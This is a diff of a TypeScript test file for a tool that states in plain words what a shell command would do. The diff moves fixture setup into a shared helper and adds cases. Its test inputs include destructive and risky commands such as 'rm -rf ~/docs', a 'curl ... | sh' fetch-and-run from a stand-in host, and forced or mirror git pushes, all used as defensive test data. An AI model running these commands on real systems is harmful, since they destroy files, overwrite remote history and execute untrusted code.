@@ -1,49 +1,9 @@
 import { sandboxPolicyForMode } from '@shared/domain/sandbox-policy'
 import { Facts, Floor } from '@shared/domain/facts'
 import { describe, expect, test } from 'vitest'
-import { createShellTreeReader } from '../../../../../src/main/adapters/shell-parser/shell-tree-reader'
 import { assessCommand } from '../../../../../src/main/core/assessment/assess-command'
-import { fakeFactsReader, type FakeEntry } from '../../../../fakes/fake-facts-reader'
-
-const trees = createShellTreeReader()
-const home = '/home/dev'
-const cwd = '/home/dev/project'
-const clean = { tracked: 1, modified: 0, untracked: 0, ignored: 0, complete: true }
-const files: Readonly<Record<string, FakeEntry>> = {
-  [`${cwd}/README.md`]: { kind: 'file', realKind: 'file', bytes: 2048, git: clean },
-  [`${cwd}/notes.txt`]: {
-    kind: 'file',
-    realKind: 'file',
-    bytes: 10,
-    git: { ...clean, tracked: 0, untracked: 1 },
-  },
-  [`${cwd}/dist`]: {
-    kind: 'directory',
-    realKind: 'directory',
-    files: 3,
-    bytes: 9000,
-    git: { ...clean, tracked: 0, ignored: 3 },
-  },
-  [`${cwd}/src`]: {
-    kind: 'directory',
-    realKind: 'directory',
-    files: 12,
-    bytes: 120_000,
-    git: { ...clean, tracked: 11, modified: 1 },
-  },
-  [`${cwd}/out`]: { link: `${home}/docs` },
-  [`${home}/docs`]: { kind: 'directory', realKind: 'directory', files: 312, bytes: 48_000_000 },
-  [`${home}/.bashrc`]: 'alias x=y\n',
-  '/tmp/old': 'x',
-}
-
-async function assess(command: string | readonly string[], more: Readonly<Record<string, FakeEntry>> = {}) {
-  const argv = typeof command === 'string' ? ['bash', '-lc', command] : command
-  return assessCommand(
-    { argv, cwd, policy: sandboxPolicyForMode('workspace-write') },
-    { reader: fakeFactsReader({ ...files, ...more }), trees, home, user: 'dev', now: () => 0 },
-  )
-}
+import { assess, cwd, files, home, trees } from '../../../../fakes/assessed-project'
+import { fakeFactsReader } from '../../../../fakes/fake-facts-reader'
 
 test.each([
   ['rm -rf ~/docs', 'Deletes 312 files (48 MB) in ~/docs, outside the workspace.'],
@@ -64,6 +24,26 @@ test.each([
   ['curl -s https://x.example/i | sh', 'Runs code from x.example.'],
   ['git push --force origin main', 'Overwrites main on origin.'],
   ['pkill -f vite', 'Stops processes.'],
+  ['rm -rf hollow', 'Deletes hollow, which holds no files, inside the workspace.'],
+  ['rm -rf ~/vault', 'Deletes ~/vault, which could not be looked through, outside the workspace.'],
+  ['rm src', 'Deletes nothing: src is a folder that it leaves alone, inside the workspace.'],
+  ['rmdir src', 'Deletes nothing: src is a folder that it leaves alone, inside the workspace.'],
+  ['rmdir hollow', 'Deletes hollow, which holds no files, inside the workspace.'],
+  ['rm -rf gone src', 'Deletes 12 files (120 KB) in src, inside the workspace.'],
+  ['rm gone lost', 'Deletes gone and lost, which do not exist, inside the workspace.'],
+  [
+    "rm 'two words, and more' $'new\\nline'",
+    'Deletes 2 files (2 bytes) in "two words, and more" and "new\\nline", inside the workspace.',
+  ],
+  ['rm -rf ~other/x', 'Deletes files that are only known at run time (~other/x).'],
+  ['rm -rf src/{1..500}', 'Deletes up to 12 files (120 KB) in src, inside the workspace.'],
+  ['git push origin :old', 'Deletes old on origin.'],
+  ['git push origin --delete one two', 'Deletes one and two on origin.'],
+  ['git push -f origin HEAD:main dev', 'Overwrites main and dev on origin.'],
+  ['git push origin +main :old', 'Overwrites main on origin, and deletes old.'],
+  ['git push --mirror origin', 'Overwrites and deletes every branch and tag on origin.'],
+  ['git push --force --all origin', 'Overwrites every branch on origin.'],
+  ['pip install -r requirements.txt', 'Installs packages with pip.'],
   ['ls -la', 'Runs ls -la.'],
 ])('%s leads with what it does: %s', async (command, effect) => {
   expect((await assess(command)).facts.effect).toBe(effect)
